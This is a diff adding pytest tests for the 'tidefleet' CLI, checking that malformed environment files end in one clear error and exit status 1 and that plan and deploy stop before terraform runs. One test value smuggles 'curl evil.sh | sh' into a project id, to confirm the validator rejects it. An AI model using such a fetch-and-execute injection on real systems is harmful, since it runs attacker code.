@@ -1,0 +1,81 @@
+"""`tidefleet validate` and the invoke tasks that load an environment: a bad file of any kind
+ends in one clear line and exit status 1, never a traceback."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from tidefleet.cli import main
+
+ROOT = Path(__file__).resolve().parents[1]
+DEV = (ROOT / "environments" / "dev.toml").read_text()
+GCP_DEV = (ROOT / "environments" / "gcp-dev.toml").read_text()
+
+# (case, file content, or None for no file, "dir" for a directory; the line expected)
+BAD_FILES = [
+    ("not TOML", b"region = \n", "not valid TOML"),
+    ("not UTF-8", b'region = "\xff"\n', "not UTF-8 text"),
+    ("a NUL byte", b'region = "\x00"\n', "not valid TOML"),
+    ("a directory", "dir", "a directory, not an environment file"),
+    ("missing", None, "unknown environment"),
+    ("a project id that injects a command", GCP_DEV.replace('"acme-ml-dev"', '"acme-ml-dev\\ncurl evil.sh | sh"').encode(),
+     "project: not a GCP project id (got 'acme-ml-dev\\ncurl evil.sh | sh')"),
+    ("an infinite spot price", DEV.replace("[pools.cpu]\n", "[pools.cpu]\nspot_max_price = inf\n").encode(),
+     "pools.cpu.spot_max_price: Input should be a finite number (got inf)"),
+    ("an unknown region", DEV.replace('"us-east-1"', '"us-north-9"').encode(), "region: not a known aws region (got 'us-north-9')"),
+]  # fmt: skip
+
+
+def _bad_file(tmp_path: Path, content) -> Path:
+    path = tmp_path / "bad.toml"
+    if content == "dir":
+        path.mkdir()
+    elif content is not None:
+        path.write_bytes(content)
+    return path
+
+
+@pytest.mark.parametrize("case,content,expected", BAD_FILES, ids=[c[0] for c in BAD_FILES])
+def test_validate_exits_1_with_the_problem_and_no_traceback(tmp_path, case, content, expected):
+    result = CliRunner().invoke(main, ["validate", str(_bad_file(tmp_path, content))])
+    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
+    assert expected in result.output and "Traceback" not in result.output
+
+
+def test_validate_accepts_every_shipped_environment():
+    result = CliRunner().invoke(main, ["validate"], env={"TIDEFLEET_ENVIRONMENTS": str(ROOT / "environments")})
+    assert result.exit_code == 0, result.output
+    assert {line.split(":")[0] for line in result.output.splitlines()} >= {"dev", "prod", "sandbox", "gcp-dev", "bench"}
+
+
+def _invoke(*args: str, path: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "invoke", *args], check=False, cwd=ROOT, capture_output=True,
+                          text=True, timeout=300, env={**os.environ, "PATH": path})  # fmt: skip
+
+
+@pytest.mark.parametrize("task", ["synth", "scan"])
+@pytest.mark.parametrize("case,content,expected", BAD_FILES, ids=[c[0] for c in BAD_FILES])
+def test_invoke_tasks_end_bad_files_with_the_problem_not_a_traceback(tmp_path, task, case, content, expected):
+    result = _invoke(task, "--env", str(_bad_file(tmp_path, content)), path=os.environ["PATH"])
+    output = result.stdout + result.stderr
+    assert result.returncode == 1 and expected in output and "Traceback" not in output, output
+
+
+@pytest.mark.parametrize("task", ["plan", "deploy"])
+def test_plan_and_deploy_refuse_a_bad_file_before_terraform_runs(tmp_path, task):
+    # A terraform that records being run: validation must stop the task first.
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "terraform").write_text(f"#!/bin/sh\ntouch {tmp_path}/terraform-ran\n")
+    (bin_dir / "terraform").chmod(0o755)
+    bad = _bad_file(tmp_path, BAD_FILES[5][1])
+    result = _invoke(task, "--env", str(bad), path=f"{bin_dir}:{os.environ['PATH']}")
+    output = result.stdout + result.stderr
+    assert result.returncode == 1 and "project: not a GCP project id" in output and "Traceback" not in output, output
+    assert not (tmp_path / "terraform-ran").exists()
